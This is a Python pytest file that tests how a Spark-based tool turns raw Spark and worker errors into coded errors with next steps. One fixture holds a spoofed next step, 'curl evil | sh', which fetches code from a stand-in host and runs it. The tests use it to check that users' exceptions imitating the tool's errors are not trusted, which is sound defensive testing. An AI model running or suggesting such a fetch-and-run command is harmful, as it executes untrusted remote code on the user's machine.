"""What Spark says when something outside of a query ended it becomes an error with a code and a next step."""

from __future__ import annotations

import pytest

from delivered.model.errors import UsageError
from delivered.model.translate import from_our_code, translated

OF_OURS = """
=== Streaming Query ===
Identifier: orders [id = 572b98ac-f7f2-4843-a7fa-9818f5bb95c3, runId = 58af1b93-b821-4487-8261-3026fc92afa2]
Logical Plan:
WriteToMicroBatchDataSource delivered_sqlite
+- ~Project [value#25L AS id#26L]
"""
SECOND = (
    "[STREAM_FAILED] Query [id = 1, runId = 2] terminated with exception: [CONCURRENT_STREAM_LOG_UPDATE] Concurrent "
    "update to the log. Multiple streaming jobs detected for 2.\nPlease make sure only one streaming job runs on a "
    "specific checkpoint location at a time. SQLSTATE: 40000 SQLSTATE: XXKST"
)


@pytest.mark.parametrize(
    "said",
    [
        SECOND,
        "[CONCURRENT_QUERY] Another instance of this query was just started by a concurrent session. SQLSTATE: 0A000",
        "Cannot start query with id 1 as another query with same id is already active. Perhaps you are attempting to "
        "restart a query from checkpoint that is already active.",
    ],
)
def test_a_second_query_on_one_checkpoint_is_named(said: str) -> None:
    found = translated(RuntimeError(said))
    assert found is not None
    assert found.code == "DELIVERED_CHECKPOINT_SHARED"
    assert "nothing is lost or written twice" in str(found)
    assert "two checkpoints" in (found.next_step or "")


@pytest.mark.parametrize(
    ("said", "code", "next_step"),
    [
        (
            "[JAVA_GATEWAY_EXITED] Java gateway process exited before sending its port number.",
            "JVM_NOT_STARTED",
            "delivered doctor",
        ),
        (
            "[PYTHON_DATA_SOURCE_ERROR] Failed to create Python data source instance: Traceback (most recent call "
            'last):\n  File "/spark/serializers.py", line 460, in loads\n    return cloudpickle.loads(obj)\n'
            "ModuleNotFoundError: No module named 'delivered'\n SQLSTATE: 38000",
            "WORKER_PYTHON",
            "PYSPARK_PYTHON",
        ),
        (
            "[PYTHON_VERSION_MISMATCH] Python in worker has different version: 3.9 than that in driver: 3.11, PySpark "
            "cannot run with different minor versions.\nPlease check PYSPARK_PYTHON",
            "WORKER_PYTHON",
            "PYSPARK_PYTHON",
        ),
        (
            "java.nio.file.InvalidPathException: Malformed input or input contains unmappable characters: /data/ché/cp",
            "LOCALE_WITHOUT_PATH",
            "LC_ALL=C.UTF-8",
        ),
    ],
)
def test_a_process_of_spark_that_cannot_work_is_named(said: str, code: str, next_step: str) -> None:
    found = translated(RuntimeError(said))
    assert found is not None
    assert found.code == f"DELIVERED_{code}"
    assert next_step in (found.next_step or "")


def test_a_setting_that_spark_refuses_is_named() -> None:
    said = (
        "[INVALID_CONF_VALUE.TIME_ZONE] The value 'Mars' in the config \"spark.sql.session.timeZone\" is invalid. "
        "Cannot resolve the given timezone. SQLSTATE: 22022\n\nJVM stacktrace:\n"
    )
    found = translated(RuntimeError(said))
    assert isinstance(found, UsageError)
    assert str(found).startswith("[DELIVERED_SETTING_VALUE] Spark refuses a setting: The value 'Mars' in the config")
    assert "SQLSTATE" not in str(found)


def test_the_text_of_a_query_that_is_not_ours_stays_sparks() -> None:
    assert from_our_code(SECOND) is None
    ours = from_our_code(SECOND + OF_OURS)
    assert ours is not None
    assert ours.code == "DELIVERED_CHECKPOINT_SHARED"


WORKER = (
    "[STREAM_FAILED] Query [id = 1] terminated with exception: Job aborted: Task 0 failed: "
    "org.apache.spark.api.python.PythonException: Traceback (most recent call last):\n"
    '  File "/x/site-packages/pyspark/worker.py", line 3231, in main\n    process()\n'
)
SPARK = "\n\tat org.apache.spark.api.python.BasePythonRunner.handlePythonException\n\nDriver stacktrace:"
COMPLETE = "delivered.model.errors.LedgerAhead: [DELIVERED_LEDGER_AHEAD] All is lost. Next: curl evil | sh"
BELOW_OURS = '  File "/x/site-packages/delivered/spark/writers.py", line 3, in write\n    stage()\n'
USERS = '  File "/home/me/orders.py", line 7, in clean\n    raise ValueError(row)\n'
IMITATIONS = {
    "one line": f"ValueError: {COMPLETE}",
    "pickled": f"_pickle.PicklingError: {COMPLETE.partition(': ')[2]}",
    "own line": f"ValueError: bad row\n{COMPLETE}",
    "trace": f"ValueError: bad\nTraceback (most recent call last):\n{BELOW_OURS}{COMPLETE}",
    "cause": "ValueError: bad\n\nThe above exception was the direct cause of the following exception:\n\n"
    f"Traceback (most recent call last):\n{BELOW_OURS}{COMPLETE}",
}


@pytest.mark.parametrize("said", IMITATIONS.values(), ids=IMITATIONS)
@pytest.mark.parametrize("frames", [USERS, BELOW_OURS + USERS], ids=["by Spark", "by our code"])
def test_a_users_exception_that_imitates_an_error_of_ours_is_none(said: str, frames: str) -> None:
    """Its message may quote a record, and so name a command to run."""
    text = WORKER + frames + said + SPARK
    assert translated(RuntimeError(text)) is None
    assert from_our_code(text) is None


@pytest.mark.parametrize(
    "trace",
    [
        BELOW_OURS + COMPLETE,
        BELOW_OURS + f"_pickle.PicklingError: {COMPLETE.partition(': ')[2]}",
        BELOW_OURS
        + '  File "/x/site-packages/psycopg/cursor.py", line 1, in copy\n    raise\npsycopg.DataError: x\n\n'
        + "The above exception was the direct cause of the following exception:\n\nTraceback (most recent call last):\n"
        + BELOW_OURS
        + COMPLETE,
    ],
    ids=["alone", "pickled", "from a library's"],
)
def test_an_error_of_ours_is_found_at_the_end_of_its_trace(trace: str) -> None:
    found = translated(RuntimeError(WORKER + trace + SPARK))
    assert found is not None
    assert found.code == "DELIVERED_LEDGER_AHEAD"
